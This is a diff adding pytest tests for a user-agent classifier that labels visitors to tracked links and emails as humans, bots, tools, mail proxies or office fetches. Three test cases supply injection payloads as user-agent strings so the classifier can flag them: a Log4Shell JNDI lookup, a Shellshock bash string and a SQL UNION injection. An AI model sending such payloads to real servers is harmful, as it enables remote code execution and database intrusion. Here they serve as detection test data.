@@ -1,0 +1,112 @@
+"""Words of a user agent: what people's browsers and applications say, and what machines do."""
+
+import pytest
+from pytracking.visitors import classify
+
+CHROME = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
+    " Chrome/139.0.0.0 Safari/537.36"
+)
+IPHONE = (
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15"
+    " (KHTML, like Gecko) Mobile/15E148"
+)
+
+
+def verdict(agent, kind="click"):
+    return classify(agent, {"user-agent": agent}, "GET", None, kind)
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        f"{IPHONE} [FBAN/FBIOS;FBAV/400] MetaIAB Facebook",
+        "Mozilla/5.0 (X11; FreeBSD amd64 15.0-CURRENT; rv:140.0) Gecko/20100101 Firefox/140.0",
+        f"{IPHONE} QRScanner/2.1",
+        f"{IPHONE} VideoDownloader/3",
+        f"{CHROME} Angebote/2.0",
+        f"{CHROME} (https://addons.mozilla.org/firefox/addon/example/)",
+        f"{CHROME} wxwork/4.1.16 MicroMessenger/7.0.1 Language/zh",
+        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1d",
+        "w3m/0.5.3+git20230121",
+        "Links (2.28; Linux 6.1.0 x86_64; GNU C 12.2; text)",
+        "Roku/DVP-9.10 (519.10E04111A)",
+        "OmniWeb/2.7-beta-3 OWF/1.0",
+        "Mozilla/4.08 [en] (Win98; I ;Nav)",
+        "Mozilla/3.01Gold (Win95; I)",
+        "Mozilla/2.02E (Win95; U)",
+        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
+        "Mozilla/5.0 (compatible; Konqueror/4.5; FreeBSD) KHTML/4.5.4 (like Gecko)",
+        "Mozilla/5.0 (Linux; U; Android 2.3.5; en-us; LS670 Build/GRJ22) AppleWebKit/533.1"
+        " (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1",
+    ],
+)
+def test_what_people_read_with_is_no_machine(agent):
+    assert verdict(agent).cls == "human"
+
+
+@pytest.mark.parametrize(
+    ("agent", "name"),
+    [
+        (f"{CHROME} PTST/210115.205427", "tool"),
+        ("Mozilla/5.0 (Windows NT 6.1; rv:40.0; GomezAgent 3.0) Gecko/2010 Firefox/40.0", "tool"),
+        (f"{CHROME} Catchpoint", "tool"),
+        (f"{CHROME} DejaClick/2.9.9.9", "tool"),
+        (f"{CHROME} NeustarWPM", "tool"),
+        (
+            "Mozilla/5.0 (X11; Linux) AppleWebKit/602.1 wkhtmltoimage Version/10.0 Safari/602",
+            "tool",
+        ),
+        (f"{CHROME}; Example-User/1.0", "tool"),
+        (f"{CHROME} GoogleMessages/20260101", "tool"),
+        ("com.apple.WebKit.Networking/8614 CFNetwork/1390 Darwin/22.0.0", "service"),
+        ("Microsoft-CryptoAPI/10.0", "service"),
+        ("Mozilla/5.0 (compatible; Page Thumbnail Maker/2.2)", "bot-word"),
+        (f"{CHROME} PageMonitor/2", "bot-word"),
+        ("Mozilla/5.0 (compatible; Example/2.2; Linux)", "remark"),
+        ("${jndi:ldap://x.example/a}", "injection"),
+        ("() { :; }; /bin/bash -c 'sleep 5'", "injection"),
+        (f"{CHROME}' UNION SELECT NULL--", "injection"),
+        ("Mozilla/3.0 (compatible; Indy Library)", "http-library"),
+        ("ureq/2.9.1", "http-library"),
+        ("Example/1.0 (Linux x86_64)", "program"),
+    ],
+)
+def test_what_programs_say_of_themselves_is_heard(agent, name):
+    found = verdict(agent)
+    assert found.signals[0].partition(":")[0] in (name, "crawler")
+    assert found.cls in ("bot", "scanner")
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        "Superhuman",
+        "Mozilla/5.0 (compatible; YandexImageResizer/2.0; +http://yandex.com/bots)",
+        "Mozilla/5.0 (compatible; ExampleMailImageProxy/1.0)",
+    ],
+)
+def test_image_proxies_of_mail_providers_are_proxies(agent):
+    assert verdict(agent, "open").signals == ("mail-proxy",)
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        "Microsoft Office Word 2014",
+        "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
+        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.12026; Pro)",
+    ],
+)
+def test_office_that_asks_for_a_clicked_link_is_nobody_yet(agent):
+    assert (verdict(agent).cls, verdict(agent).signals) == ("unknown", ("office-fetch",))
+
+
+def test_office_that_shows_a_mail_is_a_mail_client():
+    agent = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.12026; Pro)"
+    assert verdict(agent, "open").cls == "human"
+
+
+def test_an_agent_that_a_distribution_hides_is_unknown_and_says_so():
+    found = verdict("Amazon CloudFront")
+    assert (found.cls, found.signals) == ("unknown", ("hidden-agent",))
